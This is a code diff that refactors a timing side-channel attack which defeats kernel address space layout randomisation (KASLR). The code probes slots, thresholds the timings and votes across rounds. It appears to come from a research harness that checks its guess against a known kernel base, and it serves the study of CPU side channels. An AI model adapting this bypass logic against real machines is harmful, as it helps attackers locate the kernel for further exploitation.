@@ -5,9 +5,29 @@
 
 namespace whisper::core {
 
+int first_mapped_slot(std::span<const std::uint64_t> scores) {
+  std::vector<std::uint64_t> sorted(scores.begin(), scores.end());
+  std::sort(sorted.begin(), sorted.end());
+  const std::uint64_t fastest = sorted.front();
+  const std::uint64_t median = sorted[sorted.size() / 2];
+  const std::uint64_t threshold = fastest + (median - fastest) / 2;
+  for (std::size_t s = 0; s < scores.size(); ++s)
+    if (scores[s] <= threshold) return static_cast<int>(s);
+  return 0;
+}
+
+void KaslrAttack::execute(std::span<const std::uint8_t> /*payload*/,
+                          AttackResult& r) {
+  r.true_base = m_.kernel().kernel_base();
+  probe_offset_ = m_.kernel().kpti() ? os::kKptiTrampolineOffset : 0;
+  r.found_slot = scan(r);
+  r.found_base = os::kaslr_slot_base(r.found_slot);
+  r.success = r.found_base == r.true_base;
+}
+
 TetKaslr::TetKaslr(os::Machine& m, Options opt)
-    : Attack(m, "kaslr", opt),
-      rounds_(opt.batches.value_or(opt.rounds)),
+    : KaslrAttack(m, "kaslr", opt),
+      rounds_(opt.rounds),
       double_probe_(opt.double_probe),
       window_(opt.window.value_or(preferred_window(m.config()))),
       gadget_(make_kaslr_gadget(window_)) {}
@@ -23,16 +43,12 @@ std::uint64_t TetKaslr::probe_once(std::uint64_t vaddr, bool evict) {
   return run_tote(m_, gadget_, regs);
 }
 
-std::vector<std::uint64_t> TetKaslr::sweep_round(std::uint64_t probe_offset,
-                                                 bool double_probe,
+std::vector<std::uint64_t> TetKaslr::sweep_round(bool double_probe,
                                                  AttackResult& r) {
   std::vector<std::uint64_t> scores(
       os::kKaslrSlots, std::numeric_limits<std::uint64_t>::max());
   for (int s = 0; s < os::kKaslrSlots; ++s) {
-    const std::uint64_t target = os::kKaslrRegionStart +
-                                 static_cast<std::uint64_t>(s) *
-                                     os::kKaslrSlotBytes +
-                                 probe_offset;
+    const std::uint64_t target = slot_target(s);
     std::uint64_t tote;
     if (double_probe) {
       // First probe (after eviction) warms the TLB iff the target is
@@ -53,79 +69,26 @@ std::vector<std::uint64_t> TetKaslr::sweep_round(std::uint64_t probe_offset,
   return scores;
 }
 
-int TetKaslr::first_mapped_slot(const std::vector<std::uint64_t>& scores) {
-  // §4.5: scan for "the first mapped address, which marks the initiation of
-  // the kernel image". The image spans several slots, so a global argmin
-  // would land on an arbitrary image page; instead classify slots as mapped
-  // (fast) via a threshold between the fastest score and the population
-  // median, and take the first mapped slot.
-  std::vector<std::uint64_t> sorted = scores;
-  std::sort(sorted.begin(), sorted.end());
-  const std::uint64_t fastest = sorted.front();
-  const std::uint64_t median = sorted[sorted.size() / 2];
-  const std::uint64_t threshold = fastest + (median - fastest) / 2;
-  for (int s = 0; s < os::kKaslrSlots; ++s)
-    if (scores[static_cast<std::size_t>(s)] <= threshold) return s;
-  return 0;
-}
-
-void TetKaslr::execute(std::span<const std::uint8_t> /*payload*/,
-                       AttackResult& r) {
-  r.true_base = m_.kernel().kernel_base();
+int TetKaslr::scan(AttackResult& r) {
   const bool double_probe = double_probe_.value_or(m_.kernel().flare());
-  const std::uint64_t probe_offset =
-      m_.kernel().kpti() ? os::kKptiTrampolineOffset : 0;
-
   r.slot_scores.assign(os::kKaslrSlots,
                        std::numeric_limits<std::uint64_t>::max());
   std::vector<std::uint32_t> votes(os::kKaslrSlots, 0);
-  int rounds_done = 0;
+  std::size_t rounds = 0;
+  r.confidence = escalate(
+      rounds_, r,
+      [&](int) {
+        ++votes[static_cast<std::size_t>(
+            first_mapped_slot(sweep_round(double_probe, r)))];
+        ++rounds;
+      },
+      [&] { return vote_margin(votes, rounds); });
 
-  const auto run_rounds = [&](int n) {
-    for (int i = 0; i < n; ++i) {
-      checkpoint();  // bound a wedged sweep per round, like per-batch decode
-      ++votes[static_cast<std::size_t>(
-          first_mapped_slot(sweep_round(probe_offset, double_probe, r)))];
-      ++rounds_done;
-    }
-  };
-  // Cross-round vote margin, the KASLR analogue of
-  // ArgmaxAnalyzer::confidence().
-  const auto vote_margin = [&] {
-    std::uint32_t top = 0, second = 0;
-    for (const std::uint32_t v : votes) {
-      if (v > top) {
-        second = top;
-        top = v;
-      } else if (v > second) {
-        second = v;
-      }
-    }
-    return rounds_done > 0
-               ? static_cast<double>(top - second) / rounds_done
-               : 0.0;
-  };
-
-  const int n0 = std::max(1, rounds_);
-  run_rounds(n0);
-  if (opt_.adaptive) {
-    const int budget =
-        opt_.batch_budget > 0 ? std::max(opt_.batch_budget, n0) : 8 * n0;
-    while (vote_margin() < opt_.confidence_threshold && rounds_done < budget)
-      run_rounds(std::min(rounds_done, budget - rounds_done));
-    if (vote_margin() < opt_.confidence_threshold) ++r.gave_up;
-  }
-
-  r.confidence = vote_margin();
-  r.found_slot = static_cast<int>(
-      std::max_element(votes.begin(), votes.end()) - votes.begin());
-  r.found_base = os::kKaslrRegionStart +
-                 static_cast<std::uint64_t>(r.found_slot) *
-                     os::kKaslrSlotBytes;
-  r.success = r.found_base == r.true_base;
   for (const std::uint64_t score : r.slot_scores)
     if (score != std::numeric_limits<std::uint64_t>::max())
       r.tote.add(static_cast<std::int64_t>(score));
+  return static_cast<int>(std::max_element(votes.begin(), votes.end()) -
+                          votes.begin());
 }
 
 }  // namespace whisper::core
